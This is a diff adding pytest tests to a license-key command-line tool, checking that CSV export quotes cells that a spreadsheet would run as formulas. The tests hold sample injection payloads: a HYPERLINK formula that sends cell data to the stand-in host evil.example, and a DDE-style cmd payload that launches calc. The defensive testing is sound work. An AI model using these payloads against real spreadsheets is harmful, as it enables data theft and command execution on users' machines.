@@ -10,6 +10,10 @@ import uuid
 from pathlib import Path
 from typing import Any
 
+import pytest
+
+from exisone._cli._csv import csv_cell
+
 from .conftest import CORPORATE_SEATS, Cli, Server, new_hardware_id
 
 GENERATED_HEADER = ["key", "email", "product", "expiration", "isCorporate", "maxSeats"]
@@ -213,6 +217,47 @@ def test_export_round_trip(cli: Cli, server: Server, tmp_path: Path) -> None:
     assert set(made) <= {
         row["activationKey"] for row in csv.DictReader(io.StringIO(everything.stdout))
     }
+
+
+def test_export_writes_cells_that_could_start_a_formula_behind_a_quote(
+    cli: Cli, server: Server, tmp_path: Path
+) -> None:
+    """Hardware IDs, e-mails, notes, company names and versions are chosen by end users and
+    buyers: a cell that a spreadsheet would run as a formula gets a leading quote."""
+    email = unique_email()
+    hostile = {
+        "note": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "corporateName": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "version": "-2+3",
+        "email": "+" + email,
+    }
+    key = server.new_key(email=email)
+    with server.publisher() as http:
+        changed = http.patch(f"/api/license/{key}", json=hostile)
+        assert changed.status_code == 200, changed.text
+        bound = http.post(
+            "/api/license/activate",
+            json={"activationKey": key, "hardwareId": "=1+2", "productName": server.product},
+        )
+        assert bound.status_code == 200, bound.text
+
+    exported = tmp_path / "hostile.csv"
+    assert cli("keys", "export", "--search", email, "--csv", str(exported)).exit_code == 0
+    [row] = read_csv(exported)
+    assert row["activationKey"] == key
+    assert row["note"] == "'" + hostile["note"]
+    assert row["corporateName"] == "'" + hostile["corporateName"]
+    assert row["version"] == "'-2+3"
+    assert row["email"] == "'+" + email
+    assert row["hardwareId"] == "'=1+2"
+    assert (row["isCorporate"], row["currentSeats"]) == ("false", "1")  # ours: as they were
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_quoted_and_plain_text_is_not(start: str) -> None:
+    assert csv_cell(start + "1+1") == "'" + start + "1+1"
+    assert csv_cell("a" + start) == "a" + start
+    assert csv_cell(-3) == -3 and csv_cell(None) == "" and csv_cell(True) == "true"
 
 
 def test_offline_issue_then_verify(cli: Cli, server: Server, tmp_path: Path) -> None:
